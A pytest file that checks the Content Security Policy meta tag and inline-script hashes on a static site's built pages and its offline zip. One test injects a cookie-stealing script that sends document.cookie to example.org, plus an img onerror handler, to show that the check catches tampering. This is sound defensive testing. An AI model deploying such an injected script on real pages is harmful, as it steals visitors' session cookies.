"""The Content Security Policy of every built page (kit/csp.py), checked without a browser: the meta is
there, first in <head> after the charset, and its hashes are exactly those of the page's inline
scripts and styles, recomputed here with a second parser (Python's html.parser, not lxml).
tests/test_browser_csp.py proves the same policy in Chromium.
"""
from __future__ import annotations

import base64
import hashlib
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import lxml.html
import pytest

from kit.build import csp
from kit.outputs import OFFLINE_ZIP as ZIP_PATH
from tests.browser_support import built_pages

FIXED = ["default-src 'self'", "img-src 'self' data:", "object-src 'none'", "base-uri 'self'", "form-action 'self'"]


class _Inline(HTMLParser):
    """Inline scripts (those without src whose type runs) and styles, with the policy's position."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []
        self.styles: list[str] = []
        self.order: list[str] = []  # "csp", "script", "style", "link" in document order, within <head>
        self.policy: str | None = None
        self._into: list[str] | None = None
        self._in_head = False

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "head":
            self._in_head = True
        if tag == "meta" and (a.get("http-equiv") or "").lower() == "content-security-policy":
            self.policy = a.get("content")
            self.order.append("csp" if self._in_head else "csp outside head")
        elif tag in ("script", "style", "link") and self._in_head:
            self.order.append(tag)
        if tag == "script" and "src" not in a and (a.get("type") or "text/javascript").lower() in ("text/javascript", "module"):
            self.scripts.append("")
            self._into = self.scripts
        elif tag == "style":
            self.styles.append("")
            self._into = self.styles

    def handle_endtag(self, tag):
        if tag == "head":
            self._in_head = False
        if tag in ("script", "style"):
            self._into = None

    def handle_data(self, data):
        if self._into is not None:
            self._into[-1] += data


def recompute(text: str) -> _Inline:
    parsed = _Inline()
    parsed.feed(text)
    parsed.close()
    return parsed


def hashes(texts: list[str]) -> set[str]:
    return {"'sha256-" + base64.b64encode(hashlib.sha256(t.encode()).digest()).decode() + "'" for t in texts}


def policy_problems(text: str) -> list[str]:
    """This test's own check of a page's policy."""
    page = recompute(text)
    if page.policy is None:
        return ["no policy"]
    problems = []
    if page.order[:1] != ["csp"]:
        problems.append(f"the policy is not first in <head> before any script or style: {page.order[:4]}")
    directives = {d.split()[0]: d for d in (x.strip() for x in page.policy.split(";"))}
    problems += [f"missing {d!r}" for d in FIXED if directives.get(d.split()[0]) != d]
    for name, found in (("script-src", page.scripts), ("style-src", page.styles)):
        sources = directives.get(name, "").split()[1:]
        if sources[:1] != ["'self'"] or set(sources[1:]) != hashes(found) or len(sources) != len(set(sources)):
            problems.append(f"{name} is {sources}, the page needs 'self' and {sorted(hashes(found))}")
    return problems


@pytest.fixture(scope="module")
def pages(site: Path) -> dict[str, str]:
    return {rel: (site / rel).read_text(encoding="utf-8") for rel in built_pages(site)}


def test_every_page_carries_the_policy_with_its_own_hashes(pages: dict[str, str]):
    assert len(pages) > 20
    for rel, text in pages.items():
        assert policy_problems(text) == [], rel
        assert csp.check_page(text) == [], rel
        assert text.index("Content-Security-Policy") < 1024 and text.index("<meta charset") < text.index("Content-Security-Policy")
        assert "'unsafe-inline'" not in text and "'unsafe-eval'" not in text


def test_data_blocks_need_no_hash_and_few_hashes_serve_the_whole_site(pages: dict[str, str]):
    """Material writes a few inline scripts and a style in every page; its __config JSON is a data
    block (not run, so not hashed); site-wide only a handful of distinct hashes (3 scripts and 1 style
    with Material 9.8 in a page, 6 hashes in all), none for the iframe-worker shim."""
    every = set()
    for rel, text in pages.items():
        page = recompute(text)
        assert page.scripts and page.styles, rel
        config = lxml.html.document_fromstring(text).get_element_by_id("__config")
        assert config.get("type") == "application/json" and hashes([config.text]).isdisjoint(csp.inline_sources(text).scripts)
        every |= hashes(page.scripts + page.styles)
    assert 2 <= len(every) <= 8, sorted(every)


def test_a_script_added_after_the_build_fails_the_check(pages: dict[str, str]):
    text = pages["topics/email.html"]
    tampered = text.replace("</article>", "<script>fetch('https://example.org/?'+document.cookie)</script></article>", 1)
    assert tampered != text
    assert policy_problems(tampered) and policy_problems(tampered)[0].startswith("script-src is")
    problems = csp.check_page(tampered)
    assert len(problems) == 1 and problems[0].startswith("1 inline script(s) not allowed by the policy"), problems
    assert csp.check_page(csp.add_policy(tampered)) == []  # the build step would have hashed it
    # An inline style or an event handler added after the build fails it too.
    assert csp.check_page(text.replace("</article>", "<style>body{}</style></article>", 1))
    assert "img onerror=" in " ".join(csp.check_page(text.replace("</article>", '<img src="x" onerror="1"></article>', 1)))
    assert csp.check_page(csp.remove_policy(text)) == ["no Content Security Policy <meta> in <head>"]


def test_adding_the_policy_again_gives_the_same_bytes(pages: dict[str, str]):
    """Reproducible and idempotent: the built page, its policy removed and added again, is unchanged."""
    for rel, text in pages.items():
        assert csp.add_policy(csp.remove_policy(text)) == text, rel
        assert csp.add_policy(text) == text, rel
        assert csp.remove_policy(text).count("Content-Security-Policy") == 0


def test_the_offline_copy_carries_the_policy(site: Path, pages: dict[str, str]):
    with zipfile.ZipFile(site / ZIP_PATH) as zf:
        zipped = {n.split("/", 1)[1]: zf.read(n).decode() for n in zf.namelist() if n.endswith(".html")
                  and not n.split("/", 1)[1].startswith("downloads/")}
    assert zipped == pages


def test_which_scripts_need_a_hash():
    page = ("<!doctype html><html><head><meta charset='utf-8'><title>t</title>"
            "<script>a()</script><script type='module'>b()</script><script type='application/json'>{}</script>"
            "<script type='text/plain'>x</script><script src='s.js'></script><style>p{}</style></head><body></body></html>")
    inline = csp.inline_sources(page)
    assert set(inline.scripts) == hashes(["a()", "b()"]) and set(inline.styles) == hashes(["p{}"])
    protected = csp.add_policy(page)
    assert protected.startswith("<!doctype html><html><head><meta charset='utf-8'>\n<meta http-equiv=\"Content-Security-Policy\"")
    assert csp.remove_policy(protected) == page  # one line inserted, nothing else changed
    assert csp.check_page(protected) == []


def test_a_page_without_head_is_named(tmp_path: Path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "broken.html").write_text("<p>no head</p>", encoding="utf-8")
    with pytest.raises(csp.CspError, match=r"^sub/broken\.html: the page has no <head>"):
        csp.protect_site(tmp_path)
